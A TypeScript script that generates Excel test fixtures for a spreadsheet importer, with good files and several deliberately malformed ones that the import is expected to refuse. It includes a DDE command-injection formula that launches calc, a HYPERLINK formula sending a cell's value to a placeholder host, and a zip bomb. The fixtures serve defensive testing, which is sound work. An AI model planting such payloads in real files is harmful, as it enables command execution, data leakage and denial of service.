import { mkdirSync, writeFileSync } from 'node:fs'
import { zipSync } from 'fflate'
import { type Ledger, ledgerName } from '#kernel/ledger.ts'
import { warehouse } from '#modules/facilities/contract.ts'
import { headerText, type SheetColumn, sheetColumns } from '#sheets/columns.ts'
import { type HandmadeCell, handmadeParts, handmadeWorkbook } from '#sheets/handmade-workbook.ts'

/** Writes Excel files to import into a ledger: sound ones and one for each way a file can be bad. Run with `node tools/run.mjs tools/sheet-fixtures.ts`. */
export const SHEET_FIXTURES_FOLDER = 'e2e/fixtures'

export interface SheetFixture {
  file: string
  bytes: Uint8Array
  /** What the import finds: rows and wrong rows, or the refusal of the whole file. */
  expected: { rows: number; wrong: number; codes?: readonly string[] } | { refusal: string }
}

/** Codes of records that references may point to, by ledger name. */
export type FixtureReferences = Readonly<Record<string, readonly string[]>>

const DAY_1900 = 46_349 // 2026-11-23
const DAYS_BETWEEN_SYSTEMS = 1_462

function goodCell(column: SheetColumn, i: number, of: Ledger, references: FixtureReferences): HandmadeCell {
  const { field } = column
  if (column.key === 'code') return `F-${String(i + 1).padStart(5, '0')}`
  if (column.key === 'name') return `${i % 97 === 0 ? '𠮷' : ''}${of.title.zh}${i + 1}号`
  if (column.part) return column.part === 'longitude' ? 120.26 + (i % 100) / 10_000 : 30.83 + (i % 100) / 10_000
  switch (field.type) {
    case 'number':
    case 'integer':
      return Math.min(field.max ?? 1_000, (field.min ?? 0) + 1 + (i % 50))
    case 'boolean':
      return i % 2 === 0 ? '是' : '否'
    case 'date':
      return { serial: DAY_1900 - (i % 300) }
    case 'choice':
    case 'choices': {
      const labels = Object.values(field.options)
      return labels[i % labels.length]?.zh ?? null
    }
    case 'reference': {
      const codes = references[field.ledger] ?? []
      return codes[i % codes.length] ?? null
    }
    default:
      return `${column.zh}${i + 1}`.slice(0, field.type === 'text' ? (field.max ?? 200) : 200)
  }
}

/** A value the column must refuse; `null` when there is none for its type. */
function wrongCell(column: SheetColumn): { cell: HandmadeCell; code: string } | null {
  if (column.key === 'code') return { cell: 'F-00001', code: 'duplicate_code' }
  if (column.key === 'name') return { cell: null, code: 'required' }
  switch (column.field.type) {
    case 'number':
    case 'integer':
    case 'geometry':
      return { cell: '约六十', code: 'number_expected' }
    case 'boolean':
      return { cell: '大概', code: 'boolean_expected' }
    case 'date':
      return { cell: '2026-02-30', code: 'date_expected' }
    case 'choice':
    case 'choices':
      return { cell: '没有这一项', code: 'unknown_choice' }
    case 'reference':
      return { cell: 'NO-SUCH-CODE', code: 'unknown_reference' }
    default:
      return null
  }
}

function sheetRows(of: Ledger, count: number, references: FixtureReferences): HandmadeCell[][] {
  const columns = sheetColumns(of)
  return Array.from({ length: count }, (_, i) => columns.map((column) => goodCell(column, i, of, references)))
}

function headerOf(of: Ledger): string[] {
  return sheetColumns(of).map((column) => headerText(column))
}

function withErrors(of: Ledger, references: FixtureReferences): { rows: HandmadeCell[][]; codes: string[] } {
  const rows = sheetRows(of, 10_000, references)
  const columns = sheetColumns(of).flatMap((column, x) => {
    const wrong = wrongCell(column)
    return wrong ? [{ x, ...wrong }] : []
  })
  const codes: string[] = []
  for (let n = 0; n < 37; n++) {
    const { x, cell, code } = columns[n % columns.length] as (typeof columns)[number]
    const row = rows[100 + n * 260]
    if (row) row[x] = cell
    codes.push(code)
  }
  return { rows, codes }
}

/** 10 MB that pack about 1:30, so that the size of the cell is what is wrong and not the ratio of the archive. */
function longText(): string {
  let state = 1
  const pieces: string[] = []
  for (let length = 0; length < 10 * 1024 * 1024; length += 260) {
    state = (state * 1_103_515_245 + 12_345) % 2_147_483_648
    pieces.push('x'.repeat(255) + state.toString(36).slice(-5).padStart(5, '0'))
  }
  return pieces.join('')
}

/** A sound file with that many records. */
export function goodWorkbook(of: Ledger, count: number, references: FixtureReferences = {}): Uint8Array {
  return handmadeWorkbook({ sheets: [{ name: of.title.zh, rows: [headerOf(of), ...sheetRows(of, count, references)] }] })
}

/** Files for any ledger; `references` lists the codes that exist where the file will be imported. */
export function sheetFixtures(of: Ledger, name: string, references: FixtureReferences = {}): SheetFixture[] {
  const title = of.title.zh
  const header = headerOf(of)
  const good = sheetRows(of, 200, references)
  const file = (kind: string) => `${name}-${kind}.xlsx`
  const book = (rows: readonly (readonly HandmadeCell[])[], merges: string[] = []) => handmadeWorkbook({ sheets: [{ name: title, rows, merges }] })
  const errors = withErrors(of, references)

  const formulas = sheetRows(of, 3, references)
  ;(formulas[1] as HandmadeCell[])[1] = { formula: `cmd|' /C calc'!A0`, result: '仓库' }
  ;(formulas[2] as HandmadeCell[])[1] = `=HYPERLINK("http://example.invalid/?"&A1,"${title}")`
  const shifted = good.map((row) =>
    row.map((cell) => (typeof cell === 'object' && cell !== null && 'serial' in cell ? { serial: cell.serial - DAYS_BETWEEN_SYSTEMS } : cell)),
  )
  const grouped = [[`织里园区${title}一览`], [...header.slice(0, 2), '填报内容'], header.map((text, x) => (x < 2 ? null : text)), ...good]
  const bigCell = sheetRows(of, 3, references)
  ;(bigCell[1] as HandmadeCell[])[1] = longText()

  return [
    { file: file('good'), bytes: goodWorkbook(of, 200, references), expected: { rows: 200, wrong: 0 } },
    { file: file('37-errors'), bytes: book([header, ...errors.rows]), expected: { rows: 10_000, wrong: 37, codes: errors.codes } },
    { file: file('formulas'), bytes: book([header, ...formulas]), expected: { rows: 3, wrong: 2, codes: ['formula', 'formula'] } },
    {
      file: file('1904'),
      bytes: handmadeWorkbook({ date1904: true, sheets: [{ name: title, rows: [header, ...shifted] }] }),
      expected: { rows: 200, wrong: 0 },
    },
    { file: file('merged-header'), bytes: book(grouped, ['A1:C1', 'A2:A3', 'B2:B3']), expected: { rows: 200, wrong: 0 } },
    {
      file: file('wrong-sheet'),
      bytes: book([
        ['姓名', '电话', '入职日期'],
        ['王小明', '13812345678', { serial: DAY_1900 }],
      ]),
      expected: { refusal: 'sheet.header_not_found' },
    },
    { file: file('10mb-cell'), bytes: book([header, ...bigCell]), expected: { rows: 3, wrong: 1, codes: ['cell_too_long'] } },
    { file: file('bomb'), bytes: bomb(title, header), expected: { refusal: 'sheet.too_large' } },
  ]
}

/** 120 MB of blanks in a hundred kilobytes. */
function bomb(title: string, header: readonly HandmadeCell[]): Uint8Array {
  const parts = handmadeParts({ sheets: [{ name: title, rows: [header] }] })
  return zipSync({ ...parts, 'xl/worksheets/sheet1.xml': new Uint8Array(120 * 1024 * 1024).fill(0x20) }, { level: 9, mtime: new Date(1980, 0, 1) })
}

/** Building codes of the sample plan (`park-plan.imdf.zip`). */
export const SAMPLE_BUILDINGS: FixtureReferences = { 'parks.building': ['C1', 'B1'] }

if (process.argv[1]?.includes('sheet-fixtures')) {
  mkdirSync(SHEET_FIXTURES_FOLDER, { recursive: true })
  for (const { file, bytes } of sheetFixtures(warehouse, 'warehouses', SAMPLE_BUILDINGS)) {
    writeFileSync(`${SHEET_FIXTURES_FOLDER}/${file}`, bytes)
    process.stdout.write(`${SHEET_FIXTURES_FOLDER}/${file} (${ledgerName(warehouse)}): ${bytes.byteLength} bytes\n`)
  }
}
